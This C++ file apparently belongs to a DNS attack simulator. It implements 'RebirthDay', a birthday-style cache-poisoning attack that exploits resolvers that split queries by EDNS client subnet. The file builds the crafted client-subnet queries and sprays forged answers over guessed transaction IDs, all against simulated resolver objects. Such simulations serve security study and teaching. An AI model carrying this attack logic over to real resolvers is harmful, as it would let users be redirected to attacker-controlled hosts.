// RebirthDay (2025, Unbound CVE-2025-5994): questions that carry different client subnets (ECS) are
// not merged, so the birthday attack of 2002 is back; an answer without a subnet is taken for any
// of them.
#include <algorithm>

#include "base/encoding.h"
#include "world/forging.h"

namespace wh::world {
namespace {

constexpr int kQueries = 150;
constexpr int kGuesses = 1'000;
constexpr TimeUs kWindowUs = 100'000;
constexpr TimeUs kPatienceUs = 3LL * 3'600 * 1'000'000;

// RFC 7871 section 6: family 1, a /24.
std::string query_from_subnet(const dns::Question& question, int number) {
    dns::Message query;
    query.id = static_cast<std::uint16_t>(number);
    query.recursion_desired = true;
    query.questions = {question};
    dns::Record opt{"", dns::kOpt, 1'232, 0, {}};
    put16(opt.data, 8);
    put16(opt.data, 7);
    put16(opt.data, 1);
    put16(opt.data, 24 << 8);
    opt.data += static_cast<char>(10);
    opt.data += static_cast<char>(number >> 8);
    opt.data += static_cast<char>(number & 0xFF);
    query.additionals = {opt};
    auto bytes = dns::encode(query);
    return bytes.ok() ? bytes.value() : std::string();
}

AttackResult run(const AttackOrder& order, NameService& dns) {
    AttackResult result;
    Random random(derive_seed(order.seed, "rebirthday"));
    const TimeUs round = static_cast<TimeUs>(dns.setup().genuine_ttl + 1) * 1'000'000;
    TimeUs now = 300'000;
    for (const Forgery& wish : *order.forgeries) {
        const dns::Question question = question_of(wish);
        dns.ask_as(kAttackerAddress, question, now);
        const std::string server = dns.server_of(organisation_of(wish.name));
        auto bytes = dns::encode(forged_answer(wish, question, organisation_of(wish.name)));
        if (!bytes.ok()) return result;
        Datagram forged{server, std::string(kResolverAddress), dns::kDnsPort, kWeakResolverPort,
                        bytes.value()};
        // Genuine answers to the other open queries would replace his.
        dns.silence(server, true);
        bool won = false;
        const TimeUs until = now + std::min(order.give_up_us, kPatienceUs);
        while (!won && now < until) {
            now += round;
            ++result.windows;
            for (int i = 0; i < kQueries; ++i) {
                dns.launch({std::string(kAttackerAddress), std::string(kResolverAddress),
                            static_cast<std::uint16_t>(6'000 + i), dns::kDnsPort,
                            query_from_subnet(question, i)},
                           now, kAttackerToResolverUs);
            }
            const auto first = static_cast<std::uint16_t>(random.below(65'536));
            for (int i = 0; i < kGuesses && !won; ++i) {
                const TimeUs time =
                    now + kAttackerToResolverUs + 1 + (kWindowUs - 20'000) * i / kGuesses;
                dns.run_until(time);
                const auto guess = static_cast<std::uint16_t>(first + i);
                forged.bytes[0] = static_cast<char>(guess >> 8);
                forged.bytes[1] = static_cast<char>(guess & 0xFF);
                ++result.forged;
                won = dns.inject(forged, time, result.windows == 1 && i < 2);
            }
            drain(dns);
            dns.expire(now + 3'000'000);
        }
        dns.silence(server, false);
    }
    result.won = all_deceived(dns, order, now + 1'000'000);
    result.ended_us = now + 2'000'000;
    return result;
}

}  // namespace

const Attack& attack_rebirthday() {
    static constexpr Attack kAttack{
        "rebirthday",
        "RebirthDay",
        "He asks the same question for many client subnets, so that the resolver asks "
        "upstream as often, and any of the open IDs will do.",
        "The resolver must tell client subnets upstream, use a port that he knows, and the "
        "authority be kept from answering.",
        &run,
        Goal::Poison,
        [](DnsSetup& setup) {
            setup.rate_limits = true;
            setup.habits.tells_subnet = true;
            setup.habits.same_questions_max = 1'000;
        }};
    return kAttack;
}

}  // namespace wh::world
